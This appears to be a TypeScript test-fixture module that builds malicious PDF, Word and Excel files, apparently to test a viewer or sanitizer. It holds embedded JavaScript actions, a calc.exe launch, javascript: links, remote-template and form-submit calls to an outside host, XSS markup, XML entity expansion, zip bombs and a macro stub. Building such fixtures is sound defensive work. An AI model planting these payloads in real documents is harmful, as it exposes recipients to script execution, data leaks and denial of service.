import { strToU8, zipSync, type Zippable } from 'fflate'
import { away, host, script } from './marks.ts'

const bytesOf = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0))

/** A PDF of one page. */
const pdf = (catalog: string, page = '', more = '') =>
  bytesOf(`%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj
2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Resources<<>>${page}>>endobj
${more}
trailer<</Root 1 0 R/Size 9>>
%%EOF
`)
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<<${action}>>>>]`

export const pdfs: Readonly<Record<string, Uint8Array>> = {
  'pdf/open-script.pdf': pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
  'pdf/named-script.pdf': pdf('/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>'),
  'pdf/page-script.pdf': pdf('', '/AA<</O<</S/JavaScript/JS(this.print\\(\\))>>>>'),
  'pdf/launch.pdf': pdf('/OpenAction<</S/Launch/F(calc.exe)>>', link('/S/Launch/F(calc.exe)')),
  'pdf/script-link.pdf': pdf('', link('/S/URI/URI(javascript:alert\\(1\\))')),
  'pdf/remote.pdf': pdf('', link(`/S/GoToR/F(${away('remote.pdf')})/D[0/Fit]`)),
  'pdf/submit.pdf': pdf(`/OpenAction<</S/SubmitForm/F(${away('submit')})>>`),
  'pdf/embedded.pdf': pdf('/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>'),
  'pdf/xfa.pdf': pdf(
    '/AcroForm<</XFA 4 0 R/Fields[]>>',
    '',
    `4 0 obj<</Length 60>>stream\n<xdp><script>${'a'.repeat(40)}</script></xdp>\nendstream endobj`,
  ),
  'pdf/huge-image.pdf': pdf(
    '',
    '/Contents 4 0 R',
    '4 0 obj<</Length 80>>stream\nq 9 0 0 9 0 0 cm BI /W 60000 /H 60000 /BPC 8 /CS /RGB ID aaaaaaaa EI Q\nendstream endobj',
  ),
  'pdf/loop.pdf': bytesOf(
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  ),
}

const mainParts = { word: ['word/document.xml', 'wordprocessingml.document'], xl: ['xl/workbook.xml', 'spreadsheetml.sheet'] } as const

/** By its main part it is known what such a file is. */
function office(folder: keyof typeof mainParts, parts: Zippable): Uint8Array<ArrayBuffer> {
  const [part, type] = mainParts[folder]
  const contentTypes = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`
  return zipSync({ '[Content_Types].xml': strToU8(contentTypes), ...parts })
}
const relationships = (rows: string) =>
  strToU8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows}</Relationships>`,
  )
const kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const words =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

/** A Word document with this in its body. */
export const docx = (body: string, rows = '', more: Zippable = {}, declaration = '') =>
  office('word', {
    '_rels/.rels': relationships(`<Relationship Id="r1" Type="${kind}/officeDocument" Target="word/document.xml"/>`),
    'word/_rels/document.xml.rels': relationships(rows),
    'word/document.xml': strToU8(
      `<?xml version="1.0"?>${declaration}<w:document ${words}><w:body><w:p><w:r><w:t>Memoria</w:t></w:r></w:p>${body}</w:body></w:document>`,
    ),
    ...more,
  })
const cells =
  'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

/** A workbook of one sheet with these rows. */
export const xlsx = (rows: string, more: Zippable = {}, declaration = '') =>
  office('xl', {
    '_rels/.rels': relationships(`<Relationship Id="r1" Type="${kind}/officeDocument" Target="xl/workbook.xml"/>`),
    'xl/workbook.xml': strToU8(
      `<?xml version="1.0"?><workbook ${cells}><sheets><sheet name="Notas" sheetId="1" r:id="r1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': relationships(`<Relationship Id="r1" Type="${kind}/worksheet" Target="worksheets/sheet1.xml"/>`),
    'xl/worksheets/sheet1.xml': strToU8(
      `<?xml version="1.0"?>${declaration}<worksheet ${cells}><sheetData>${rows}</sheetData></worksheet>`,
    ),
    ...more,
  })
const text = (value: string) => `<row r="1"><c r="A1" t="inlineStr"><is><t>${value}</t></is></c></row>`
const entities =
  '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
const zeros = (mebibytes: number) => new Uint8Array(mebibytes * 1024 * 1024)
const linked = (id: string) => `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>Pulsa</w:t></w:r></w:hyperlink></w:p>`

export const officeFiles = (): Readonly<Record<string, Uint8Array>> => ({
  'office/other-part.docx': docx('<w:altChunk r:id="c1"/>', `<Relationship Id="c1" Type="${kind}/aFChunk" Target="chunk.html"/>`, {
    'word/chunk.html': strToU8(`<script>${script}</script>`),
  }),
  'office/script-link.docx': docx(
    linked('l1') + linked('l2'),
    `<Relationship Id="l1" Type="${kind}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/><Relationship Id="l2" Type="${kind}/hyperlink" Target="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" TargetMode="External"/>`,
  ),
  'office/remote-template.docx': docx(
    '',
    `<Relationship Id="t1" Type="${kind}/attachedTemplate" Target="${away('t.dotm')}" TargetMode="External"/>`,
  ),
  'office/markup-as-text.docx': docx(
    '<w:p><w:r><w:t>&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>',
  ),
  'office/entities.docx': docx('<w:p><w:r><w:t>&d;</w:t></w:r></w:p>', '', {}, entities),
  'office/bomb.docx': docx('', '', { 'word/styles.xml': [zeros(40), { level: 9 }] }),
  'office/macro.docx': docx('', '', { 'word/vbaProject.bin': strToU8('Sub AutoOpen()') }),
  'office/markup.xlsx': xlsx(text('&lt;img src=x onerror=alert(1)&gt;')),
  'office/formula.xlsx': xlsx(`<row r="1"><c r="A1"><f>HYPERLINK("https://${host}/f","a")</f><v>1</v></c></row>`),
  'office/entities.xlsx': xlsx(text('&d;'), {}, entities),
  'office/far-cell.xlsx': xlsx('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
  'office/bomb.xlsx': xlsx('', { 'xl/sharedStrings.xml': [zeros(40), { level: 9 }] }),
})
